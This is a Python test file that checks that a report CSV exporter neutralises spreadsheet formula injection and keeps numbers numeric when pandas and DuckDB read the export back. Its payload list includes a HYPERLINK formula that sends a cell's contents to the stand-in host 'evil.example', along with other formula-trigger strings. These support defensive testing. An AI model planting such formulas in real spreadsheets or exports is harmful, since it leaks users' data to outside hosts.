"""CSV export cells that a spreadsheet would run as formulas are neutralised (OWASP)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from reports.exporters import to_csv
from reports.rows import COLUMNS

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\tindented", "\r=1+1"]


def _rows() -> list[dict[str, object]]:
    return [{"paper_id": number, "title": title, "arxiv_id": "arXiv:2501.00001",
             "score": -0.25 if number == 1 else 0.5, "stars": -3, "license": "-",
             "code_url": "https://github.com/a/b"}
            for number, title in enumerate(FORMULAS, start=1)]


def test_formula_like_text_cells_get_a_leading_quote() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(_rows()), newline="")))

    assert [row["title"] for row in rows] == ["'" + title for title in FORMULAS]
    assert {row["license"] for row in rows} == {"'-"}
    assert rows[0]["code_url"] == "https://github.com/a/b"


def test_numbers_stay_numbers_even_when_negative() -> None:
    [first, *_] = list(csv.DictReader(io.StringIO(to_csv(_rows()), newline="")))
    assert first["score"] == "-0.25" and first["stars"] == "-3"


def test_pandas_and_duckdb_read_the_export_back(tmp_path: Path) -> None:
    pandas = pytest.importorskip("pandas")
    duckdb = pytest.importorskip("duckdb")
    path = tmp_path / "export.csv"
    path.write_text(to_csv(_rows()), encoding="utf-8", newline="")

    frame = pandas.read_csv(path)
    assert list(frame.columns[: len(COLUMNS)]) == list(COLUMNS)
    assert list(frame["title"]) == ["'" + title for title in FORMULAS]
    assert frame["score"].dtype.kind == "f" and frame["score"][0] == -0.25
    assert frame["stars"].dtype.kind == "i" and frame["arxiv_id"][0] == "arXiv:2501.00001"
    table = duckdb.sql(f"SELECT title, score, stars FROM read_csv_auto('{path}')").fetchall()
    assert [row[0] for row in table] == ["'" + title for title in FORMULAS]
    assert table[0][1:] == (-0.25, -3)
